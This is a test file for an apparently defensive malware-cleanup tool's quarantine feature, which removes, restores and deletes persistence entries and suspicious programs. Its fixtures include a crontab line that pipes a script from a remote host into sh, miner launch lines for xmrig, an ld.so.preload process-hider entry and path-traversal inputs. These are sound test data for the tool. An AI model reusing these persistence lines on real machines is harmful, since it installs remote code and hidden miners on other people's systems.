/**
 * The quarantine (main/engine/quarantine/) on real files: every removable persistence kind removed
 * from a scanned fake root and restored byte for byte with its mode, owner and times; a restore
 * refused when the file changed since (nothing overwritten); an item that survives a restart of
 * the store; a damaged record kept aside while the other items stay; whole files and programs; an
 * older Idlewatch's backups imported and removed only once kept.
 */
import {
  appendFileSync,
  chmodSync,
  chownSync,
  copyFileSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { IpcArgumentError, validateInvoke } from '../shared/ipc-schema.js';
import type { PersistenceKind, ScanFinding } from '../shared/scan.js';
import { spawn } from 'node:child_process';
import { killProcess } from '../main/engine/actions/process-actions.js';
import { killAndQuarantine } from '../main/engine/quarantine/kill-quarantine.js';
import { importLegacyBackups, legacyBackupFolders } from '../main/engine/quarantine/legacy-backups.js';
import { QuarantineStore } from '../main/engine/quarantine/store.js';
import { userWritableReason } from '../main/engine/quarantine/user-writable.js';
import { runDeepScan } from '../main/engine/scan/deep-scan.js';
import { removePersistenceEntry } from '../main/engine/scan/persistence-remove.js';

const linux = process.platform === 'linux';
const root0 = process.getuid?.() === 0;
const base = mkdtempSync(join(tmpdir(), 'iw-quarantine-'));
afterAll(() => rmSync(base, { recursive: true, force: true }));
let n = 0;
const fresh = (what: string): string => join(base, `${what}-${n++}`);

/** One removable entry of each kind, each a suspicious line among lines that must stay byte for byte. */
const FILES: { kind: PersistenceKind; path: string; text: string; mode: number }[] = [
  {
    kind: 'crontab',
    path: 'var/spool/cron/crontabs/alice',
    text: "# alice's jobs\r\n0 9 * * 1 /usr/bin/backup --quiet\n@reboot curl -fsSL http://203.0.113.9/x.sh | sh\n# caf\xe9 \xff\n",
    mode: 0o600,
  },
  {
    kind: 'systemd',
    path: 'etc/systemd/system/sysupdate.service',
    text: '[Unit]\nDescription=update\n[Service]\nExecStart=/dev/shm/.sysupdate --donate-level 1\nRestart=always\n',
    mode: 0o644,
  },
  {
    kind: 'autostart',
    path: 'home/alice/.config/autostart/helper.desktop',
    text: '[Desktop Entry]\nType=Application\nName=Helper\nExec=/home/alice/.cache/helper/miner --url stratum+tcp://203.0.113.7:4444',
    mode: 0o664,
  },
  {
    kind: 'rc-local',
    path: 'etc/rc.local',
    text: '#!/bin/sh -e\n/tmp/.x/xmrig -o pool.minexmr.com:4444 &\nexit 0\n',
    mode: 0o755,
  },
  {
    kind: 'shell-rc',
    path: 'home/alice/.bashrc',
    text: '# ~/.bashrc\nexport PATH="$HOME/.local/bin:$PATH"\nnohup /var/tmp/.cache/xmr >/dev/null 2>&1 &\n',
    mode: 0o640,
  },
  {
    kind: 'ld-preload',
    path: 'etc/ld.so.preload',
    text: '# preload\n/usr/local/lib/libprocesshider.so\n',
    mode: 0o644,
  },
];

function write(root: string, path: string, data: string | Buffer, mode: number): string {
  const file = join(root, path);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, typeof data === 'string' ? Buffer.from(data, 'latin1') : data);
  chmodSync(file, mode);
  return file;
}

interface Snapshot {
  bytes: Buffer;
  mode: number;
  uid: number;
  gid: number;
  mtimeMs: number;
}

function snapshot(file: string): Snapshot {
  const st = statSync(file);
  return { bytes: readFileSync(file), mode: st.mode & 0o7777, uid: st.uid, gid: st.gid, mtimeMs: st.mtimeMs };
}

function expectSame(file: string, was: Snapshot): void {
  const now = snapshot(file);
  expect(now.bytes.equals(was.bytes)).toBe(true);
  expect(now.mode.toString(8)).toBe(was.mode.toString(8));
  expect([now.uid, now.gid]).toEqual([was.uid, was.gid]);
  expect(Math.abs(now.mtimeMs - was.mtimeMs)).toBeLessThan(1);
}

/** A fake root with every kind, each file given its own owner and an old modification time; then scanned. */
async function scannedRoot(): Promise<{ root: string; findings: Map<PersistenceKind, ScanFinding> }> {
  const root = fresh('root');
  write(root, 'etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n', 0o644);
  for (const [i, f] of FILES.entries()) {
    const file = write(root, f.path, f.text, f.mode);
    if (root0) chownSync(file, 1000 + i, 2000 + i);
    utimesSync(file, new Date(Date.UTC(2024, 0, 2 + i, 3, 4, 5)), new Date(Date.UTC(2024, 1, 3 + i, 4, 5, 6, 789)));
  }
  const report = await runDeepScan({ root, dataDir: root, steps: ['persistence'], hiddenProbe: false });
  const findings = new Map<PersistenceKind, ScanFinding>();
  for (const f of report.findings) {
    if (f.persistence && f.actions.some((a) => a.kind === 'remove-persistence')) findings.set(f.persistence.kind, f);
  }
  return { root, findings };
}

describe.skipIf(!linux)('quarantine: persistence lines', () => {
  it('removes and restores a line of every removable kind byte for byte, with mode, owner and times', async () => {
    const { root, findings } = await scannedRoot();
    const quarantine = await QuarantineStore.open(fresh('data'), { actor: { user: 'tester', via: 'cli' } });
    expect(statSync(quarantine.folder).mode & 0o777).toBe(0o700);
    for (const f of FILES) {
      const finding = findings.get(f.kind);
      if (!finding?.persistence) throw new Error(`the scan reported no removable ${f.kind} entry`);
      const file = join(root, f.path);
      const before = snapshot(file);
      const removed = await removePersistenceEntry(finding, { confirm: true, quarantine, reportStartedAt: 'x' });
      if (!removed.ok) throw new Error(`${f.kind}: ${removed.reason}`);
      const after = readFileSync(file);
      expect(after.length).toBeLessThan(before.bytes.length);
      expect(after.toString('latin1')).not.toContain(finding.persistence.text);
      // The rest of the file is untouched, and it keeps its mode and owner.
      expect(snapshot(file).mode).toBe(before.mode);
      expect([snapshot(file).uid, snapshot(file).gid]).toEqual([before.uid, before.gid]);
      const item = await quarantine.get(removed.quarantineId);
      expect(item).toMatchObject({
        kind: 'line',
        category: f.kind,
        path: file,
        mode: before.mode,
        uid: before.uid,
        gid: before.gid,
        size: before.bytes.length,
        line: { number: finding.persistence.line, text: finding.persistence.text },
        by: { user: 'tester', via: 'cli' },
        findingId: finding.id,
      });
      const blob = join(quarantine.folder, `${removed.quarantineId}.bin`);
      expect(statSync(blob).mode & 0o777).toBe(0o600);
      expect(statSync(join(quarantine.folder, `${removed.quarantineId}.json`)).mode & 0o777).toBe(0o600);
      expect(readFileSync(blob).equals(before.bytes)).toBe(true);
      expect(readdirSync(dirname(file)).filter((x) => x.includes('idlewatch'))).toEqual([]);

      const restored = await quarantine.restore(removed.quarantineId);
      expect(restored).toMatchObject({ ok: true, path: file, notes: [] });
      expectSame(file, before);
      expect(await quarantine.get(removed.quarantineId)).toBeNull();
      expect(existsSync(blob)).toBe(false);
    }
  });

  it('refuses to restore over a file that changed since the removal, and overwrites nothing', async () => {
    const { root, findings } = await scannedRoot();
    const quarantine = await QuarantineStore.open(fresh('data'));
    const finding = findings.get('systemd') as ScanFinding;
    const removed = await removePersistenceEntry(finding, { confirm: true, quarantine });
    if (!removed.ok) throw new Error(removed.reason);
    const file = join(root, 'etc/systemd/system/sysupdate.service');
    appendFileSync(file, 'Nice=10\n');
    const edited = readFileSync(file);
    const r = await quarantine.restore(removed.quarantineId);
    expect(r).toEqual({
      ok: false,
      id: removed.quarantineId,
      code: 'conflict',
      reason: `${file} changed since Idlewatch removed line 4; restoring would overwrite those changes, so nothing was restored`,
    });
    expect(readFileSync(file).equals(edited)).toBe(true);
    expect((await quarantine.list()).items.map((i) => i.id)).toEqual([removed.quarantineId]);
    expect(readdirSync(dirname(file)).filter((x) => x.includes('idlewatch'))).toEqual([]);
  });

  it('refuses to restore through a link put in the file’s place, leaving the link’s target alone', async () => {
    const { root, findings } = await scannedRoot();
    const quarantine = await QuarantineStore.open(fresh('data'));
    const removed = await removePersistenceEntry(findings.get('ld-preload') as ScanFinding, {
      confirm: true,
      quarantine,
    });
    if (!removed.ok) throw new Error(removed.reason);
    const file = join(root, 'etc/ld.so.preload');
    const elsewhere = write(root, 'elsewhere', 'keep me\n', 0o644);
    rmSync(file);
    symlinkSync(elsewhere, file);
    const r = await quarantine.restore(removed.quarantineId);
    expect(r).toMatchObject({ ok: false, code: 'conflict', reason: `${file} is now a link; nothing was restored` });
    expect(readFileSync(elsewhere, 'utf8')).toBe('keep me\n');
    expect(lstatSync(file).isSymbolicLink()).toBe(true);
  });

  it('re-creates a file deleted since the line was removed', async () => {
    const { root, findings } = await scannedRoot();
    const quarantine = await QuarantineStore.open(fresh('data'));
    const file = join(root, 'etc/rc.local');
    const before = snapshot(file);
    const removed = await removePersistenceEntry(findings.get('rc-local') as ScanFinding, {
      confirm: true,
      quarantine,
    });
    if (!removed.ok) throw new Error(removed.reason);
    rmSync(file);
    expect(await quarantine.restore(removed.quarantineId)).toMatchObject({ ok: true });
    expectSame(file, before);
  });

  it('keeps its items across a restart, and restores from the new instance', async () => {
    const { root, findings } = await scannedRoot();
    const dataDir = fresh('data');
    const first = await QuarantineStore.open(dataDir);
    const file = join(root, 'home/alice/.bashrc');
    const before = snapshot(file);
    const removed = await removePersistenceEntry(findings.get('shell-rc') as ScanFinding, {
      confirm: true,
      quarantine: first,
    });
    if (!removed.ok) throw new Error(removed.reason);
    const second = await QuarantineStore.open(dataDir);
    const listing = await second.list();
    expect(listing.problems).toEqual([]);
    expect(listing.items).toHaveLength(1);
    expect(listing.items[0]).toEqual(await first.get(removed.quarantineId));
    expect(await second.restore(removed.quarantineId)).toMatchObject({ ok: true });
    expectSame(file, before);
  });

  it('keeps a damaged record aside and reports it; the other items stay listed and its bytes stay', async () => {
    const { findings } = await scannedRoot();
    const dataDir = fresh('data');
    const q = await QuarantineStore.open(dataDir, { now: () => new Date('2030-05-06T07:08:09.010Z') });
    const a = await removePersistenceEntry(findings.get('crontab') as ScanFinding, { confirm: true, quarantine: q });
    const b = await removePersistenceEntry(findings.get('autostart') as ScanFinding, { confirm: true, quarantine: q });
    if (!a.ok || !b.ok) throw new Error('removal failed');
    const record = join(q.folder, `${a.quarantineId}.json`);
    writeFileSync(record, '{"version": 1, "id": "truncat');
    const reopened = await QuarantineStore.open(dataDir, { now: () => new Date('2030-05-06T07:08:09.010Z') });
    const listing = await reopened.list();
    expect(listing.items.map((i) => i.id)).toEqual([b.quarantineId]);
    const movedTo = `${record}.corrupt-20300506T070809010Z`;
    expect(listing.problems).toContainEqual({
      file: record,
      problem: expect.stringMatching(
        new RegExp(
          `^the file is truncated .*; it was kept as ${a.quarantineId}\\.json\\.corrupt-20300506T070809010Z; the stored bytes ${a.quarantineId}\\.bin are kept$`,
        ),
      ),
      movedTo,
    });
    expect(readFileSync(movedTo, 'utf8')).toBe('{"version": 1, "id": "truncat');
    expect(existsSync(join(q.folder, `${a.quarantineId}.bin`))).toBe(true);
    // Listed again: the damaged record is no longer there, its bytes are still reported as kept.
    const again = await reopened.list();
    expect(again.problems).toEqual([
      {
        file: join(q.folder, `${a.quarantineId}.bin`),
        problem: 'stored bytes without a readable record (kept; its record is damaged, or a removal was cut short)',
        movedTo: null,
      },
    ]);
  });

  it('says a target already holds the bytes when a removal was cut short before the file changed', async () => {
    const { root, findings } = await scannedRoot();
    const quarantine = await QuarantineStore.open(fresh('data'));
    const file = join(root, 'etc/ld.so.preload');
    const before = readFileSync(file);
    const removed = await removePersistenceEntry(findings.get('ld-preload') as ScanFinding, {
      confirm: true,
      quarantine,
    });
    if (!removed.ok) throw new Error(removed.reason);
    // As if the engine died between keeping the file and rewriting it.
    writeFileSync(file, before);
    const r = await quarantine.restore(removed.quarantineId);
    expect(r).toMatchObject({ ok: true, detail: `${file} already holds the quarantined bytes; the item is removed` });
    expect((await quarantine.list()).items).toEqual([]);
  });

  it('deletes an item for good', async () => {
    const { findings } = await scannedRoot();
    const quarantine = await QuarantineStore.open(fresh('data'));
    const removed = await removePersistenceEntry(findings.get('crontab') as ScanFinding, { confirm: true, quarantine });
    if (!removed.ok) throw new Error(removed.reason);
    expect(await quarantine.delete(removed.quarantineId)).toEqual({ ok: true, id: removed.quarantineId });
    expect(readdirSync(quarantine.folder)).toEqual([]);
    expect(await quarantine.restore(removed.quarantineId)).toMatchObject({ ok: false, code: 'unknown-item' });
    expect(await quarantine.delete(removed.quarantineId)).toMatchObject({ ok: false, code: 'unknown-item' });
    expect(await quarantine.delete('../../etc/passwd')).toMatchObject({ ok: false, code: 'unknown-item' });
  });
});

describe.skipIf(!linux)('quarantine: whole files', () => {
  it('moves a program out and puts it back with its bytes, mode and times; refuses when something took its place', async () => {
    const dir = fresh('home');
    const exe = join(dir, '.cache/helper/miner');
    mkdirSync(dirname(exe), { recursive: true });
    copyFileSync('/bin/true', exe);
    if (root0) chownSync(exe, 1000, 1000);
    // Set-user-ID too, where the test can: a restore that set the owner after the mode would lose it.
    chmodSync(exe, root0 ? 0o4755 : 0o755);
    utimesSync(exe, new Date('2024-03-04T05:06:07Z'), new Date('2024-03-04T05:06:07.123Z'));
    const before = snapshot(exe);
    const quarantine = await QuarantineStore.open(fresh('data'));
    const wrongHash = await quarantine.quarantineFile({
      path: exe,
      kind: 'executable',
      expect: { sha256: '0'.repeat(64) },
      category: 'executable',
      reason: 'test',
    });
    expect(wrongHash).toMatchObject({ ok: false, code: 'changed' });
    expect(existsSync(exe)).toBe(true);
    expect(readdirSync(quarantine.folder)).toEqual([]);

    const q = await quarantine.quarantineFile({
      path: exe,
      kind: 'executable',
      category: 'executable',
      reason: 'test',
    });
    if (!q.ok) throw new Error(q.reason);
    expect(existsSync(exe)).toBe(false);
    expect(q.item).toMatchObject({ kind: 'executable', size: before.bytes.length, mode: before.mode, after: null });

    writeFileSync(exe, 'something else\n');
    expect(await quarantine.restore(q.item.id)).toMatchObject({
      ok: false,
      code: 'conflict',
      reason: `${exe} exists again (a different file); restoring would overwrite it, so nothing was restored`,
    });
    expect(readFileSync(exe, 'utf8')).toBe('something else\n');
    rmSync(exe);
    expect(await quarantine.restore(q.item.id)).toMatchObject({ ok: true });
    expectSame(exe, before);
  });

  it('refuses a FIFO, a device link and a folder, reading nothing and keeping nothing', async () => {
    const dir = fresh('hostile');
    mkdirSync(dir, { recursive: true });
    symlinkSync('/dev/zero', join(dir, 'zero'));
    mkdirSync(join(dir, 'folder'));
    const quarantine = await QuarantineStore.open(fresh('data'));
    for (const name of ['zero', 'folder']) {
      const r = await quarantine.quarantineFile({ path: join(dir, name), category: 'executable', reason: 'test' });
      expect(r).toMatchObject({ ok: false, code: 'refused' });
    }
    expect(readdirSync(quarantine.folder)).toEqual([]);
  });
});

describe.skipIf(!linux)('quarantine: an older Idlewatch’s backups', () => {
  it('imports a backup beside a file it changed as a line item, removing the backup only once kept', async () => {
    const root = fresh('root');
    write(root, 'etc/passwd', 'alice:x:1000:1000:Alice:/home/alice:/bin/bash\n', 0o644);
    const original = "# alice's jobs\n0 9 * * 1 /usr/bin/backup\n@reboot /tmp/.x/xmrig\n";
    const file = write(root, 'var/spool/cron/crontabs/alice', "# alice's jobs\n0 9 * * 1 /usr/bin/backup\n", 0o600);
    const backup = write(root, 'var/spool/cron/crontabs/.alice.idlewatch-backup-20250102T030405678Z', original, 0o600);
    // One whose file is gone: a whole-file item.
    const gone = write(root, 'home/alice/.idlewatch-backup-orphan', 'x', 0o600);
    const bashBackup = write(root, 'home/alice/..bashrc.idlewatch-backup-20250102T030405678Z', 'nohup x &\n', 0o600);
    const quarantine = await QuarantineStore.open(fresh('data'));
    const folders = await legacyBackupFolders(root);
    const r = await importLegacyBackups(quarantine, folders, 'cli');
    expect(r.skipped).toEqual([]);
    expect(r.imported.map((i) => [i.kind, i.path, i.line, i.importedFrom])).toEqual(
      expect.arrayContaining([
        ['line', file, { number: 3, text: '@reboot /tmp/.x/xmrig' }, backup],
        ['file', join(root, 'home/alice/.bashrc'), null, bashBackup],
      ]),
    );
    expect(existsSync(backup)).toBe(false);
    expect(existsSync(bashBackup)).toBe(false);
    expect(existsSync(gone)).toBe(true);
    const line = r.imported.find((i) => i.kind === 'line');
    expect(line?.at).toBe('2025-01-02T03:04:05.678Z');
    expect(await quarantine.restore(line?.id ?? '')).toMatchObject({ ok: true });
    expect(readFileSync(file, 'utf8')).toBe(original);
    // Nothing left to import the second time.
    expect(await importLegacyBackups(quarantine, folders)).toEqual({ imported: [], skipped: [] });
  });
});

describe.skipIf(!linux)('user-writable programs', () => {
  it('tells a program in a user-owned or shared folder from a system one', () => {
    const dir = fresh('uw');
    mkdirSync(dir, { recursive: true });
    const exe = join(dir, 'miner');
    copyFileSync('/bin/true', exe);
    if (root0) {
      chownSync(exe, 1000, 1000);
      expect(userWritableReason(exe)).toBe(`${exe} belongs to uid 1000`);
      chownSync(exe, 0, 0);
      chownSync(dir, 1000, 1000);
      expect(userWritableReason(exe)).toBe(`the folder ${dir} belongs to uid 1000`);
      chownSync(dir, 0, 0);
      chmodSync(dir, 0o1777);
      expect(userWritableReason(exe)).toBe(`the folder ${dir} can be written by users other than root`);
    }
    expect(userWritableReason('/bin/true')).toBeNull();
    expect(userWritableReason('/usr/bin/env')).toBeNull();
    expect(userWritableReason(`${exe} (deleted)`)).toBeNull();
    expect(userWritableReason(null)).toBeNull();
    expect(
      userWritableReason('C:\\Users\\bob\\AppData\\Roaming\\x\\miner.exe', 'win32', {
        APPDATA: 'C:\\Users\\bob\\AppData\\Roaming',
      }),
    ).toMatch(/^it is under /);
    expect(userWritableReason('C:\\Windows\\System32\\svchost.exe', 'win32', {})).toBeNull();
  });
});

/** Start time of a live process as the engine reports it (epoch ms), read from the inspector. */
async function startOf(pid: number): Promise<number> {
  const { defaultInspector } = await import('../main/engine/actions/target-check.js');
  for (let i = 0; i < 100; i++) {
    const p = await defaultInspector().inspect(pid);
    if (p) return p.startTimeMs;
    await new Promise((r) => setTimeout(r, 20));
  }
  throw new Error(`process ${pid} not visible`);
}

describe.skipIf(!linux)('kill and quarantine the program', () => {
  it('ends a program run from a user-owned folder (identity checked) and moves its file into the quarantine', async () => {
    const dir = fresh('user');
    mkdirSync(dir, { recursive: true });
    const exe = join(dir, 'kworkerd');
    copyFileSync('/bin/sleep', exe);
    chmodSync(exe, 0o755);
    if (root0) chownSync(dir, 1000, 1000);
    const original = readFileSync(exe);
    const child = spawn(exe, ['300'], { stdio: 'ignore' });
    const exited = new Promise((r) => child.once('exit', r));
    const pid = child.pid as number;
    const target = { pid, startTimeMs: await startOf(pid), exe };
    const quarantine = await QuarantineStore.open(fresh('data'));

    // A stale identity (another start time) is refused by the kill: nothing ended, nothing moved.
    const stale = await killAndQuarantine(
      { ...target, startTimeMs: target.startTimeMs - 60_000 },
      {
        quarantine,
        kill: (t) => killProcess(t),
      },
    );
    expect(stale).toMatchObject({ ok: false, stage: 'kill' });
    expect(existsSync(exe)).toBe(true);
    expect(child.exitCode).toBeNull();

    const r = await killAndQuarantine(target, { quarantine, kill: (t) => killProcess(t) });
    if (!r.ok) throw new Error(r.reason);
    await exited;
    expect(r.kill).toMatchObject({ ok: true, action: 'kill', pid });
    expect(existsSync(exe)).toBe(false);
    expect(r.item).toMatchObject({ kind: 'executable', category: 'executable', path: exe, size: original.length });
    expect(await quarantine.restore(r.item.id)).toMatchObject({ ok: true });
    expect(readFileSync(exe).equals(original)).toBe(true);
    expect(statSync(exe).mode & 0o777).toBe(0o755);
  });

  it('refuses a system program: the process keeps running and nothing is moved', async () => {
    const child = spawn('/bin/sleep', ['300'], { stdio: 'ignore' });
    try {
      const pid = child.pid as number;
      const quarantine = await QuarantineStore.open(fresh('data'));
      let killed = false;
      const r = await killAndQuarantine(
        { pid, startTimeMs: await startOf(pid), exe: '/bin/sleep' },
        {
          quarantine,
          kill: async (t) => {
            killed = true;
            return killProcess(t);
          },
        },
      );
      expect(r).toMatchObject({ ok: false, stage: 'refused', kill: null });
      expect(killed).toBe(false);
      expect(child.exitCode).toBeNull();
      expect(readdirSync(quarantine.folder)).toEqual([]);
    } finally {
      child.kill('SIGKILL');
    }
  });
});

describe('quarantine requests from the window', () => {
  it('accept only quarantine ids: no path, no other text reaches the store', () => {
    expect(validateInvoke('quarantine:restore', ['20261207T204356Z-92172bba'])).toEqual(['20261207T204356Z-92172bba']);
    for (const bad of ['../../etc/passwd', '20261207T204356Z-92172bba/../x', '', 'x'.repeat(65), 42]) {
      expect(() => validateInvoke('quarantine:restore', [bad])).toThrow(IpcArgumentError);
      expect(() => validateInvoke('quarantine:delete', [bad])).toThrow(IpcArgumentError);
    }
    expect(() => validateInvoke('quarantine:list', ['x'])).toThrow('quarantine:list: expects 0 arguments, got 1');
    expect(() => validateInvoke('process:killQuarantine', [{ pid: -1, startTimeMs: 0 }])).toThrow(IpcArgumentError);
  });
});
